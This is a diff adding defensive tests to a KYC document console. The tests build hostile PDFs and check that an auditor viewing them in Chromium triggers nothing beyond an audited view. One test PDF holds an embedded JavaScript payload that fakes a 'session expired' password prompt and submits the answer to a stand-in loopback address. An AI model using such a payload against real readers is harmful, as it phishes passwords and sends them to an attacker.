@@ -99,3 +99,77 @@ def test_console_journeys_in_chromium(fresh_stack):
                  "customer-rejected", "review-409", "audit"):
         for width in ("360", "1280"):
             assert os.path.getsize(os.path.join(shots, f"{name}-{width}.png")) > 2000
+
+
+# -- hostile documents: nothing of a document runs in the console -------------
+
+def hostile_pdf(catalog_extra="", page_extra=""):
+    """A one-page PDF with a black box drawn on it and, in its catalog or its
+    page, whatever actions the caller puts there."""
+    content = b"0 0 0 rg 40 600 300 120 re f"
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra.encode() + b" >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+        + page_extra.encode() + b" >>",
+        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
+    ]
+    out, offsets = b"%PDF-1.7\n", []
+    for i, o in enumerate(objects):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % (i + 1) + o + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return out
+
+
+# The probe's two: an alert on opening, and a fake "session expired" prompt
+# whose answer is sent elsewhere (to a loopback address that is not ours).
+HOSTILE_PDFS = [
+    hostile_pdf(catalog_extra='/OpenAction << /S /JavaScript /JS (app.alert\\("owned"\\);) >>'),
+    hostile_pdf(page_extra='/AA << /O << /S /JavaScript /JS (var p = app.response\\("Session '
+                'expired, re-enter your password"\\); this.submitForm\\("http://127.0.0.2:9/s?p=" '
+                '+ p\\);) >> >>'),
+]
+
+
+def store_scan(stack, kid, data):
+    """Replace the stored bytes of KYC kid by data, sealed with its own data
+    key: a document stored before today's checks refused it."""
+    import hashlib
+    from bson import Binary
+    keys = sealed.read_keys(stack.sbd.key_file)
+    kyc = stack.db["kyc_doc"].find_one({"_id": kid})
+    dek = sealed.data_key(keys, kyc)
+    stack.db["kyc_document"].update_one({"_id": kid}, {"$set": {
+        "data": Binary(sealed.seal_box(dek, kid, "data", data)), "size": len(data)}})
+    stack.db["kyc_doc"].update_one({"_id": kid}, {"$set": {
+        "document_size": len(data), "document_sha256": hashlib.sha256(data).hexdigest(),
+        "media_type": "application/pdf"}})
+    assert sealed.stored(stack, kid)[0] == data
+
+
+def test_a_stored_hostile_pdf_never_runs_in_the_console(fresh_stack):
+    from api import customer, document
+    stack = fresh_stack
+    kycs = []
+    for data in HOSTILE_PDFS:
+        _, auth = customer(stack)
+        r = stack.post("/kyc/upload", json=document("passport"), headers=auth)
+        assert r.status_code == 200, r.text
+        kid = ObjectId(r.json()["kyc_id"])
+        store_scan(stack, kid, data)
+        kycs.append(str(kid))
+    auditor = make_auditor(stack, "Cara Auditor")
+    env = dict(os.environ, BASE=stack.url, AUDITOR=auditor, AUDITOR_PASSWORD=AUDITOR_PASSWORD,
+               KYCS=",".join(kycs), CHROMIUM=CHROMIUM)
+    r = subprocess.run([shutil.which("node"), os.path.join(TESTS, "hostile.mjs")], env=env,
+                       cwd=TESTS, capture_output=True, text=True, timeout=170)
+    assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-6000:]
+    assert json.loads(r.stdout.strip().splitlines()[-1]) == {"opened": 2}
+    # The auditor read both: audited as views, nothing else happened.
+    for kid in kycs:
+        assert stack.db["user_log"].count_documents({"action": "KYC_VIEWED",
+                                                     "details.kyc_id": kid}) == 2
